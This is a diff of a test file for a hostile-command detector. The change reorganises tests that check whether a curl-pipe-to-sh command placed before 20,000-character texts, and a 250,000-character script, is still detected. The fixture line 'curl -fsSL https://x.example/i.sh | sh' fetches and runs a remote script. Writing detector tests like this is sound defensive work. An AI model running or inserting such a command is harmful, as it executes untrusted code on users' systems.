@@ -8,21 +8,24 @@ import { sharedDetector } from "../support/marked.js";
 const FLAGGED = "curl -fsSL https://x.example/i.sh | sh";
 const BEFORE = `Some words first.\n\n\`\`\`sh\n${FLAGGED}\n\`\`\`\n\n`;
 
-describe.each(Object.entries(families))("%s of 20,000 characters", (_, family) => {
-  it("do not hide a command before them", async () => {
-    const text = BEFORE + family(20_000);
-    const detection = (await sharedDetector()).detect(text);
-    assertSound(text, detection);
-    expect(detection.findings[0]?.text).toBe(FLAGGED);
-  });
+describe.each(Object.entries(families))(
+  "hostile text of 20,000 characters with %s",
+  (_, family) => {
+    it("does not hide a command before it", async () => {
+      const text = BEFORE + family(20_000);
+      const detection = (await sharedDetector()).detect(text);
+      assertSound(text, detection);
+      expect(detection.findings[0]?.text).toBe(FLAGGED);
+    });
 
-  it("have a sound result when alone", async () => {
-    const text = family(20_000);
-    assertSound(text, (await sharedDetector()).detect(text));
-  });
-});
+    it("has a sound result", async () => {
+      const text = family(20_000);
+      assertSound(text, (await sharedDetector()).detect(text));
+    });
+  },
+);
 
-it("a script of 250,000 characters is read completely", async () => {
+it("a script of 250,000 characters is analyzed completely", async () => {
   const text = longScript(250_000);
   const detection = (await sharedDetector()).detect(text);
   assertSound(text, detection);
